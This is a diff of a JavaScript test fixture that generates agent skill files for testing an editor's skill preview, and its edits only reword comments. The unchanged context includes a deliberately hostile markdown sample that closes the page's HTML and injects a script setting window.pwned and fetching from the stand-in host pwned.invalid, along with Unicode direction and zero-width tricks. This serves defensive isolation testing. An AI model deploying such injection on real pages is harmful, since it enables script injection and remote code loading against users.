@@ -1,12 +1,12 @@
-// The skills that the tests of the preview look at, beside those of the fixture.
+// The skills of the preview tests, in addition to those of the fixture.
 
 import { mkdir, writeFile } from 'node:fs/promises';
 import { dirname, join } from 'node:path';
 
-/** What none of the skills may make the editor ask for. */
+/** An address that no skill may make the editor request. */
 export const foreign = 'pwned.invalid';
 
-/** Text that tries everything to get out of a preview. */
+/** Text that tries to escape from a preview. */
 export const hostile = `# Hostile
 
 </pre></div></main></body></html><script>window.pwned = 1; parent.pwned = 1; fetch('https://${foreign}/script')</script>
@@ -39,7 +39,7 @@ Direction: \u202edesrever\u202c, \u2066isolated\u2069, zero\u200bwidth, tags \u{
 
 const skill = (name, description, body) => `---\nname: ${name}\ndescription: ${description}\n---\n\n${body}`;
 
-/** As long as a name may be. */
+/** A name of the maximum length. */
 export const long = 'a-name-that-is-just-as-long-as-the-standard-allows-it-to-be-at-m';
 
 /** Lines of a skill of 200 kilobytes. */
@@ -61,7 +61,7 @@ const files = {
     'Looks at names that are long. '.repeat(33) + 'Use when testing.',
     `# ${'Unbroken'.repeat(30)}\n\n${'word '.repeat(300)}\n\n${'x'.repeat(600)}\n`,
   ),
-  '.agents/skills/manual/SKILL.md': skill('manual', 'Holds a book. Use when somebody asks for all of it.', manual()),
+  '.agents/skills/manual/SKILL.md': skill('manual', 'Holds a book. Use when the user asks for all of it.', manual()),
   '.claude/skills/ship/SKILL.md':
     '---\nname: ship\ndescription: Ships a release. Use when the user asks to release.\nargument-hint: "[target]"\n---\n\n' +
     '# Ship\n\nShip to $ARGUMENTS, the first being $0.\n\nThe branch is !`git branch --show-current`.\n\nAsk before production.\n',
